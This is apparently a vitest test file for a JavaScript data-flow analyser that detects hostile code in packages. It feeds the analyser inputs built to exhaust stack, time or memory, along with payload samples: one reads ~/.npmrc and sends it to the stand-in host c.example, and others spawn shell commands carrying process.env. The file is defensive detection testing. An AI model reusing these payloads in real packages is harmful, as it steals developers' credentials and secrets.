import { describe, expect, it } from 'vitest';
import { flows, follow } from './sample.js';

const many = (count: number, text: string) => text.repeat(count);

/** Input that is made to exhaust a reader: stack, time or memory. */
const HOSTILE: Record<string, string> = {
  'brackets nested without end': `eval(${many(20_000, '(')}1${many(20_000, ')')})`,
  'a chain of members': `eval(a${many(20_000, '.b')})`,
  'a chain of calls': `eval(a${many(15_000, '()')})`,
  'blocks in blocks': `eval("1");${many(4000, 'if(a){')}x${many(4000, '}')}`,
  'recursion without end': 'function f(n) { return f(n + 1) + f(n + 2); } eval(f(0));',
  'recursion under conditions':
    'function f(n) { if (Math.random() > 0.5) f(n + 1); if (process.env.X) f(n + 2); } eval(f(0));',
  'a loop without end': 'eval("1"); for (;;) { x = x + "a"; }',
  'a text that doubles': 'let s = "a"; for (let i = 0; i < 60; i++) s += s; eval(s);',
  'a list that doubles': 'let a = [1]; for (let i = 0; i < 60; i++) a = a.concat(a); eval(a);',
  'giant repeats': 'eval("x".repeat(2 ** 29)); eval("x".padEnd(2 ** 30));',
  'patterns that backtrack':
    'eval(/^(a+)+$/.test("a".repeat(40) + "!")); /^(?:(?:a+)b?)+$/.test("a".repeat(60) + "!"); /a*a*a*a*a*a*b/.test("a".repeat(399)); /(a|aa)+$/.test("a".repeat(60) + "!"); /(?=a)(a+)+b/.test("a".repeat(40)); /^(a{1,30}){1,30}$/.test("a".repeat(50) + "!")',
  'objects that hold themselves':
    'const a = {}; a.a = a; Object.setPrototypeOf(a, a); a.x; eval(JSON.stringify(a)); const l = []; l.push(l); eval(String(l) + l.flat(Infinity));',
  'objects that hold one another':
    'const all = []; for (let i = 0; i < 40; i++) all.push({ i }); for (const a of all) for (const b of all) a["k" + b.i] = b; fetch("https://h.example", { body: all[0] }); eval(JSON.stringify(all[0]));',
  'code that evaluates itself': 'var s = "eval(s)"; eval(s);',
  'a generator without end': 'function* g() { while (true) yield 1; } eval([...g()].length);',
  'a getter that asks itself': 'const o = { get a() { return this.a; } }; eval(o.a);',
  'a proxy that asks itself': 'const p = new Proxy({}, { get: (t, k) => p[k] }); eval(p.x);',
  'bytes that are no text': '\u0000\u0001eval("1")\u0000',
  'no program at all': '}}}}{{{((( eval( `${ /',
};

describe('limits', () => {
  for (const [name, code] of Object.entries(HOSTILE)) {
    it(`ends in time at ${name}, and says something`, () => {
      const started = process.cpuUsage();
      const result = follow(code);
      const used = process.cpuUsage(started);
      expect(result.observations.length + result.facts.length).toBeGreaterThan(0);
      expect((used.user + used.system) / 1e6).toBeLessThan(12);
    });
  }

  it('still reads a file after a loop that eats its budget', () => {
    const result = follow("let n = 0; while (n < 1e12) { n++; } require('child_process').exec('id');", 'install');
    expect(result.facts.map((fact) => fact.id)).toContain('limit');
    expect(result.observations.find((each) => each.sink === 'process.spawn')).toBeDefined();
  });

  it('finds a payload anywhere in a bundle of megabytes, and keeps it apart from functions nobody calls', () => {
    const filler = (count: number) =>
      Array.from(
        { length: count },
        (_, index) =>
          `function f${index}(a, b) { var c = { x: [a, b, "${index}"] }; return c.x.map(function (d) { return d + ${index}; }).join("/"); }`,
      ).join('\n');
    const payload =
      ";(function () { const o = require('os'), f = require('fs'); try { require('https').request({ hostname: 'c.example' }).end(f.readFileSync(o.homedir() + '/.npmrc', 'utf8')); } catch (e) {} })();";
    const half = filler(20_000);
    for (const code of [payload + half + half, `${half}\n${payload}\n${half}`, `${half}${half}\n${payload}`]) {
      expect(code.length).toBeGreaterThan(4_000_000);
      const seen = follow(code).observations.find(
        (each) => each.taints.some((taint) => taint.source === 'secret.file') && each.sink === 'net.out',
      );
      expect(seen?.unasked).toBe(true);
      expect(code.split('\n')[(seen?.line ?? 1) - 1]).toContain('.npmrc');
    }
    const asked = follow(`${half}\nfunction never() { ${payload} }\n${half}`).observations.find(
      (each) => each.sink === 'net.out',
    );
    expect(asked?.unasked).toBe(false);
  });
});

describe('calls nested deeper than they are followed', () => {
  it.each([90, 110, 150])('hide nothing: %i', (count) => {
    const payload = "require('child_process').execSync('x ' + JSON.stringify(process.env))";
    const result = follow(`${many(count, '(function(){')}${payload}${many(count, '})()')}`, 'install');
    expect(flows(result, 'env.all', 'process.spawn')).toBeDefined();
  });
});
